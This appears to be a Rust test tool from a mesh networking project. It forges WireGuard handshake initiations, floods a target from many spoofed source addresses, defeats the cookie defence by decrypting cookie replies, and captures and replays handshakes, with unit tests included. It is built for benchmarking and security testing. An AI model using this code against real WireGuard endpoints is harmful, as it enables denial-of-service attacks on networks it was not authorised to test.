//! `meshd-wg-flood`: the attacker in the engine's flood benchmark and security tests. Not
//! shipped. It knows only public keys, as an underlay neighbour does.
//!
//! ```text
//! meshd-wg-flood flood --target ADDR:PORT --target-key B64 [--claim-key B64]
//!                      [--source-net 198.18.0.0/16] [--sources 64] [--rate 5000]
//!                      [--duration 30] [--with-cookies 1]
//! meshd-wg-flood capture --port PORT --out FILE [--count 4] [--timeout 20]
//! meshd-wg-flood replay --target ADDR:PORT --in FILE [--source ADDR] [--repeat 3]
//! ```
//!
//! `flood` sends handshake initiations with a valid MAC1 for the target's key, each claiming
//! to come from `--claim-key` (a real peer's public key, so that the target gets as far as it
//! can: the static key decrypts and names a peer; only the timestamp, sealed under a key that
//! needs the claimed peer's private key, fails). They leave from `--sources` UDP sockets bound
//! to addresses of `--source-net` (the caller makes that network local in the flooder's
//! namespace: `ip route add local NET dev lo`) and ephemeral ports, at most `--rate` datagrams
//! a second (capped at 50000). Cookie replies that come back are counted. With
//! `--with-cookies 1` the flooder behaves like an attacker that owns its source addresses: it
//! decrypts each cookie reply (the key derives from the target's public key) and from then on
//! sends from that address with a valid MAC2. It prints `key=value` lines.
//!
//! `capture` reads IPv4 UDP datagrams to or from `--port` on every interface of its network
//! namespace (an AF_PACKET socket: run it where a wire tap would be) and writes the WireGuard
//! handshake messages among them (types 1 and 2) as hex lines to `--out`.
//!
//! `replay` sends each captured message from `--source` (default any) to the target,
//! `--repeat` times.

use std::collections::{HashMap, VecDeque};
use std::io::Write;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::os::fd::AsRawFd;
use std::process::ExitCode;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{bail, Context};
use base64::Engine as _;
use blake2::digest::{FixedOutput, KeyInit, Mac, Update};
use blake2::{Blake2s256, Blake2sMac, Digest};
use chacha20poly1305::aead::AeadInPlace;
use chacha20poly1305::ChaCha20Poly1305;
use ipnet::IpNet;
use rand_core::{OsRng, RngCore};

const CONSTRUCTION: &[u8] = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s";
const IDENTIFIER: &[u8] = b"WireGuard v1 zx2c4 Jason@zx2c4.com";
const LABEL_MAC1: &[u8] = b"mac1----";
const LABEL_COOKIE: &[u8] = b"cookie--";
const INIT_LEN: usize = 148;
const MAX_RATE: u64 = 50_000;

fn hash(parts: &[&[u8]]) -> [u8; 32] {
    let mut h = Blake2s256::new();
    for p in parts {
        Digest::update(&mut h, p);
    }
    h.finalize().into()
}

fn hmac(key: &[u8], parts: &[&[u8]]) -> [u8; 32] {
    let mut m = <hmac::SimpleHmac<Blake2s256> as KeyInit>::new_from_slice(key)
        .expect("HMAC takes any key length");
    for p in parts {
        Mac::update(&mut m, p);
    }
    m.finalize().into_bytes().into()
}

fn kdf2(key: &[u8; 32], input: &[u8]) -> ([u8; 32], [u8; 32]) {
    let t0 = hmac(key, &[input]);
    let t1 = hmac(&t0, &[&[1]]);
    let t2 = hmac(&t0, &[&t1, &[2]]);
    (t1, t2)
}

fn mac16(key: &[u8], data: &[u8]) -> [u8; 16] {
    let mut m = <Blake2sMac<blake2::digest::consts::U16> as KeyInit>::new_from_slice(key)
        .expect("a key of at most 32 bytes");
    Update::update(&mut m, data);
    m.finalize_fixed().into()
}

fn seal(key: &[u8; 32], plain: &[u8], aad: &[u8], out: &mut [u8]) {
    let cipher = ChaCha20Poly1305::new(key.into());
    out[..plain.len()].copy_from_slice(plain);
    let tag = cipher
        .encrypt_in_place_detached(&[0u8; 12].into(), aad, &mut out[..plain.len()])
        .expect("sealing a short message");
    out[plain.len()..plain.len() + 16].copy_from_slice(&tag);
}

/// Set the sender index and recompute MAC1 (MAC2 stays zero: no cookie).
fn stamp(msg: &mut [u8; INIT_LEN], mac1_key: &[u8; 32], sender_index: u32) {
    msg[4..8].copy_from_slice(&sender_index.to_le_bytes());
    let mac1 = mac16(mac1_key, &msg[..116]);
    msg[116..132].copy_from_slice(&mac1);
    msg[132..148].fill(0);
}

/// A handshake initiation to `target` that claims to come from `claimed`: valid MAC1, the
/// claimed static key sealed correctly, a timestamp sealed under a random key (the real one
/// needs the claimed peer's private key).
fn forged_initiation(target: &[u8; 32], claimed: &[u8; 32], sender_index: u32) -> [u8; INIT_LEN] {
    let ephemeral = x25519_dalek::StaticSecret::random_from_rng(OsRng);
    let e_pub = x25519_dalek::PublicKey::from(&ephemeral);
    let ck = hash(&[CONSTRUCTION]);
    let mut h = hash(&[&ck, IDENTIFIER]);
    h = hash(&[&h, target]);
    let ck = hmac(&hmac(&ck, &[e_pub.as_bytes()]), &[&[1]]);
    h = hash(&[&h, e_pub.as_bytes()]);
    let es = ephemeral.diffie_hellman(&x25519_dalek::PublicKey::from(*target));
    let (_ck, key) = kdf2(&ck, es.as_bytes());
    let mut msg = [0u8; INIT_LEN];
    msg[0] = 1;
    msg[8..40].copy_from_slice(e_pub.as_bytes());
    seal(&key, claimed, &h, &mut msg[40..88]);
    h = hash(&[&h, &msg[40..88]]);
    let mut wrong_key = [0u8; 32];
    OsRng.fill_bytes(&mut wrong_key);
    let mut timestamp = [0u8; 12];
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default();
    timestamp[..8].copy_from_slice(&((1u64 << 62) + 37 + now.as_secs()).to_be_bytes());
    timestamp[8..].copy_from_slice(&now.subsec_nanos().to_be_bytes());
    seal(&wrong_key, &timestamp, &h, &mut msg[88..116]);
    stamp(&mut msg, &mac1_key(target), sender_index);
    msg
}

fn mac1_key(target: &[u8; 32]) -> [u8; 32] {
    hash(&[LABEL_MAC1, target])
}

/// The cookie in a cookie reply, if it was sealed for one of the MAC1s in `recent`.
fn open_cookie(target: &[u8; 32], reply: &[u8], recent: &VecDeque<[u8; 16]>) -> Option<[u8; 16]> {
    use chacha20poly1305::aead::{Aead, Payload};
    use chacha20poly1305::{KeyInit as _, XChaCha20Poly1305};
    if reply.len() != 64 || reply[0] != 3 {
        return None;
    }
    let key = hash(&[LABEL_COOKIE, target]);
    let cipher = XChaCha20Poly1305::new(&key.into());
    let nonce = chacha20poly1305::XNonce::from_slice(&reply[8..32]);
    recent.iter().rev().find_map(|mac1| {
        let plain = cipher
            .decrypt(
                nonce,
                Payload {
                    msg: &reply[32..64],
                    aad: mac1,
                },
            )
            .ok()?;
        plain.try_into().ok()
    })
}

fn key_arg(s: &str) -> anyhow::Result<[u8; 32]> {
    let v = base64::engine::general_purpose::STANDARD
        .decode(s.trim())
        .with_context(|| format!("{s:?} is not base64"))?;
    v.try_into()
        .map_err(|_| anyhow::anyhow!("{s:?} is not a 32-byte key"))
}

struct Args(HashMap<String, String>);

impl Args {
    fn parse(list: &[String]) -> anyhow::Result<Args> {
        let mut m = HashMap::new();
        let mut it = list.iter();
        while let Some(k) = it.next() {
            let Some(name) = k.strip_prefix("--") else {
                bail!("unexpected argument {k:?}");
            };
            let v = it
                .next()
                .with_context(|| format!("--{name} needs a value"))?;
            m.insert(name.to_string(), v.clone());
        }
        Ok(Args(m))
    }

    fn get(&self, k: &str) -> anyhow::Result<&str> {
        self.0
            .get(k)
            .map(String::as_str)
            .with_context(|| format!("--{k} is required"))
    }

    fn num<T: std::str::FromStr>(&self, k: &str, default: T) -> anyhow::Result<T> {
        match self.0.get(k) {
            None => Ok(default),
            Some(v) => v
                .parse()
                .map_err(|_| anyhow::anyhow!("--{k} {v:?} is not a number")),
        }
    }
}

fn flood(a: &Args) -> anyhow::Result<()> {
    let target: SocketAddr = a.get("target")?.parse().context("--target ADDR:PORT")?;
    let target_key = key_arg(a.get("target-key")?)?;
    let claimed = match a.0.get("claim-key") {
        Some(k) => key_arg(k)?,
        None => {
            let mut k = [0u8; 32];
            OsRng.fill_bytes(&mut k);
            k
        }
    };
    let net: IpNet =
        a.0.get("source-net")
            .map(String::as_str)
            .unwrap_or("198.18.0.0/16")
            .parse()
            .context("--source-net")?;
    let sources: usize = a.num("sources", 64)?;
    let rate: u64 = a.num("rate", 5000u64)?.clamp(1, MAX_RATE);
    let duration = Duration::from_secs_f64(a.num("duration", 30.0f64)?);
    let with_cookies = a.num("with-cookies", 0u8)? != 0;
    if sources == 0 || sources > 4096 {
        bail!("--sources must be 1..=4096");
    }
    let mut socks = Vec::with_capacity(sources);
    for (i, ip) in net.hosts().skip(1).take(sources).enumerate() {
        let s = UdpSocket::bind(SocketAddr::new(ip, 0)).with_context(|| {
            format!("binding source {i} ({ip}): is {net} a local route in this namespace?")
        })?;
        s.set_nonblocking(true)?;
        socks.push(s);
    }
    if socks.len() < sources {
        bail!("{net} has fewer than {sources} host addresses");
    }
    // A few distinct initiations (fresh ephemeral keys), re-stamped per datagram.
    let mac1 = mac1_key(&target_key);
    let mut templates: Vec<[u8; INIT_LEN]> = (0..8)
        .map(|i| forged_initiation(&target_key, &claimed, i))
        .collect();
    let started = Instant::now();
    let mut sent: u64 = 0;
    let mut send_errors: u64 = 0;
    let mut cookies: u64 = 0;
    let mut other_replies: u64 = 0;
    let mut buf = [0u8; 256];
    let mut pollfds: Vec<libc::pollfd> = socks
        .iter()
        .map(|s| libc::pollfd {
            fd: s.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        })
        .collect();
    let mut next_drain = Instant::now();
    // Per source: its cookie (once learned) and the MAC1s of its latest messages (a cookie
    // reply is sealed with the MAC1 of the message it answers).
    let mut cookie: Vec<Option<[u8; 16]>> = vec![None; socks.len()];
    let mut recent: Vec<VecDeque<[u8; 16]>> = vec![VecDeque::new(); socks.len()];
    let mut cookies_learned: u64 = 0;
    let mut sent_with_mac2: u64 = 0;
    while started.elapsed() < duration {
        // Pace: as many datagrams as the rate allows by now.
        let due = (started.elapsed().as_secs_f64() * rate as f64) as u64;
        while sent < due {
            let i = (sent % socks.len() as u64) as usize;
            let t = (sent % templates.len() as u64) as usize;
            stamp(&mut templates[t], &mac1, OsRng.next_u32());
            if with_cookies {
                let mut m1 = [0u8; 16];
                m1.copy_from_slice(&templates[t][116..132]);
                if recent[i].len() == 32 {
                    recent[i].pop_front();
                }
                recent[i].push_back(m1);
                if let Some(c) = cookie[i] {
                    let mac2 = mac16(&c, &templates[t][..132]);
                    templates[t][132..148].copy_from_slice(&mac2);
                    sent_with_mac2 += 1;
                }
            }
            match socks[i].send_to(&templates[t], target) {
                Ok(_) => {}
                Err(_) => send_errors += 1,
            }
            sent += 1;
        }
        if Instant::now() >= next_drain {
            next_drain = Instant::now() + Duration::from_millis(20);
            // SAFETY: valid pollfds for sockets that live across the call.
            let r = unsafe { libc::poll(pollfds.as_mut_ptr(), pollfds.len() as libc::nfds_t, 0) };
            if r > 0 {
                for (i, (pfd, s)) in pollfds.iter_mut().zip(&socks).enumerate() {
                    if pfd.revents != 0 {
                        while let Ok(n) = s.recv(&mut buf) {
                            if n == 64 && buf[0] == 3 {
                                cookies += 1;
                                if with_cookies {
                                    if let Some(c) = open_cookie(&target_key, &buf[..n], &recent[i])
                                    {
                                        if cookie[i] != Some(c) {
                                            cookies_learned += 1;
                                        }
                                        cookie[i] = Some(c);
                                    }
                                }
                            } else {
                                other_replies += 1;
                            }
                        }
                    }
                    pfd.revents = 0;
                }
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let secs = started.elapsed().as_secs_f64();
    println!("flood_seconds={secs:.1}");
    println!("sent={sent}");
    println!("send_errors={send_errors}");
    println!("rate_pps={:.0}", sent as f64 / secs);
    println!("sources={}", socks.len());
    println!("cookie_replies_received={cookies}");
    println!("other_replies_received={other_replies}");
    if with_cookies {
        println!("cookies_learned={cookies_learned}");
        println!("sent_with_valid_cookie={sent_with_mac2}");
    }
    Ok(())
}

fn capture(a: &Args) -> anyhow::Result<()> {
    let port: u16 = a.get("port")?.parse().context("--port")?;
    let out = a.get("out")?;
    let count: usize = a.num("count", 4)?;
    let timeout = Duration::from_secs_f64(a.num("timeout", 20.0f64)?);
    // SAFETY: plain socket(2); the descriptor is owned below.
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_DGRAM | libc::SOCK_CLOEXEC,
            // ETH_P_ALL: outgoing packets reach only sockets of that protocol.
            i32::from((libc::ETH_P_ALL as u16).to_be()),
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("opening an AF_PACKET socket");
    }
    // SAFETY: fd is a fresh descriptor we own.
    let fd = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
    let tv = libc::timeval {
        tv_sec: 0,
        tv_usec: 200_000,
    };
    // SAFETY: valid fd and timeval.
    unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_RCVTIMEO,
            (&tv as *const libc::timeval).cast(),
            std::mem::size_of::<libc::timeval>() as libc::socklen_t,
        )
    };
    let mut file = std::fs::File::create(out).with_context(|| format!("creating {out}"))?;
    let started = Instant::now();
    let mut got = 0;
    let mut buf = vec![0u8; 65536];
    let mut seen = std::collections::HashSet::new();
    while got < count && started.elapsed() < timeout {
        // SAFETY: buf is valid for its length.
        let n = unsafe { libc::recv(fd.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0) };
        if n <= 0 {
            continue;
        }
        let pkt = &buf[..n as usize];
        if pkt.len() < 28 || pkt[0] >> 4 != 4 || pkt[9] != 17 {
            continue;
        }
        let ihl = usize::from(pkt[0] & 15) * 4;
        if pkt.len() < ihl + 8 {
            continue;
        }
        let udp = &pkt[ihl..];
        let (sport, dport) = (
            u16::from_be_bytes([udp[0], udp[1]]),
            u16::from_be_bytes([udp[2], udp[3]]),
        );
        let payload = &udp[8..];
        if (sport != port && dport != port) || payload.is_empty() {
            continue;
        }
        let kind = payload[0];
        if !(kind == 1 && payload.len() == 148 || kind == 2 && payload.len() == 92) {
            continue;
        }
        // An AF_PACKET socket sees an outgoing packet and, on a veth, may see it twice.
        if !seen.insert(payload.to_vec()) {
            continue;
        }
        let hex: String = payload.iter().map(|b| format!("{b:02x}")).collect();
        writeln!(file, "{hex}")?;
        got += 1;
    }
    file.sync_all()?;
    println!("captured={got}");
    if got == 0 {
        bail!("no handshake message seen on port {port} within {timeout:?}");
    }
    Ok(())
}

fn replay(a: &Args) -> anyhow::Result<()> {
    let target: SocketAddr = a.get("target")?.parse().context("--target ADDR:PORT")?;
    let input = a.get("in")?;
    let repeat: usize = a.num("repeat", 3)?;
    let source: IpAddr =
        a.0.get("source")
            .map(String::as_str)
            .unwrap_or("0.0.0.0")
            .parse()
            .context("--source")?;
    let text = std::fs::read_to_string(input).with_context(|| format!("reading {input}"))?;
    let mut msgs = Vec::new();
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        let line = line.trim();
        if line.len() % 2 != 0 {
            bail!("odd-length hex line in {input}");
        }
        let bytes = (0..line.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&line[i..i + 2], 16))
            .collect::<Result<Vec<u8>, _>>()
            .with_context(|| format!("bad hex in {input}"))?;
        msgs.push(bytes);
    }
    let sock = UdpSocket::bind(SocketAddr::new(source, 0)).context("binding the source")?;
    let mut sent = 0;
    for _ in 0..repeat {
        for m in &msgs {
            sock.send_to(m, target).context("sending")?;
            sent += 1;
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    println!("replayed={sent}");
    Ok(())
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let result = match args.split_first() {
        Some((cmd, rest)) => Args::parse(rest).and_then(|a| match cmd.as_str() {
            "flood" => flood(&a),
            "capture" => capture(&a),
            "replay" => replay(&a),
            other => bail!("unknown command {other:?} (flood, capture, replay)"),
        }),
        None => Err(anyhow::anyhow!(
            "usage: meshd-wg-flood flood|capture|replay --option value ..."
        )),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("meshd-wg-flood: {e:#}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use boringtun::noise::handshake::parse_handshake_anon;
    use boringtun::noise::rate_limiter::RateLimiter;
    use boringtun::noise::{Packet, Tunn, TunnResult};
    use boringtun::x25519::{PublicKey, StaticSecret};

    #[test]
    fn a_forged_initiation_has_a_valid_mac1_and_names_the_claimed_key_but_cannot_complete() {
        let target = StaticSecret::random_from_rng(OsRng);
        let target_pub = PublicKey::from(&target);
        let victim = StaticSecret::random_from_rng(OsRng);
        let victim_pub = PublicKey::from(&victim);
        let msg = forged_initiation(target_pub.as_bytes(), victim_pub.as_bytes(), 7);
        let limiter = RateLimiter::new(&target_pub, u64::MAX);
        let mut dst = [0u8; 256];
        let Ok(Packet::HandshakeInit(init)) = limiter.verify_packet(None, &msg, &mut dst) else {
            panic!("MAC1 should verify");
        };
        let half = parse_handshake_anon(&target, &target_pub, &init).expect("static decrypts");
        assert_eq!(half.peer_static_public, *victim_pub.as_bytes());
        // The target's noise state for the victim refuses it (the timestamp does not open).
        let mut tunn = Tunn::new(target, victim_pub, None, None, 1, None);
        let mut dst = [0u8; 2048];
        let r = tunn.decapsulate(None, &msg, &mut dst);
        assert!(matches!(r, TunnResult::Err(_)), "{r:?}");
    }

    #[test]
    fn a_cookie_reply_opens_and_the_mac2_made_with_it_passes_the_target() {
        let target = StaticSecret::random_from_rng(OsRng);
        let target_pub = PublicKey::from(&target);
        let mut msg = forged_initiation(target_pub.as_bytes(), &[9u8; 32], 1);
        // Always under load: demands MAC2, answers with a cookie.
        let limiter = RateLimiter::new(&target_pub, 0);
        let src: std::net::IpAddr = "198.18.0.9".parse().unwrap();
        let mut dst = [0u8; 256];
        let reply = match limiter.verify_packet(Some(src), &msg, &mut dst) {
            Err(TunnResult::WriteToNetwork(r)) => r.to_vec(),
            _ => panic!("expected a cookie reply"),
        };
        let mut recent = VecDeque::new();
        recent.push_back([0u8; 16]);
        let mut m1 = [0u8; 16];
        m1.copy_from_slice(&msg[116..132]);
        recent.push_back(m1);
        let c = open_cookie(target_pub.as_bytes(), &reply, &recent).expect("cookie opens");
        stamp(&mut msg, &mac1_key(target_pub.as_bytes()), 2);
        let mac2 = mac16(&c, &msg[..132]);
        msg[132..148].copy_from_slice(&mac2);
        assert!(limiter.verify_packet(Some(src), &msg, &mut dst).is_ok());
        // From another address the cookie is worth nothing.
        let other: std::net::IpAddr = "198.18.0.10".parse().unwrap();
        assert!(limiter.verify_packet(Some(other), &msg, &mut dst).is_err());
    }

    #[test]
    fn restamping_keeps_mac1_valid() {
        let target = StaticSecret::random_from_rng(OsRng);
        let target_pub = PublicKey::from(&target);
        let mut msg = forged_initiation(target_pub.as_bytes(), &[9u8; 32], 1);
        stamp(&mut msg, &mac1_key(target_pub.as_bytes()), 0xdead_beef);
        let limiter = RateLimiter::new(&target_pub, u64::MAX);
        assert!(limiter.verify_packet(None, &msg, &mut [0u8; 256]).is_ok());
        msg[5] ^= 1;
        assert!(limiter.verify_packet(None, &msg, &mut [0u8; 256]).is_err());
    }
}
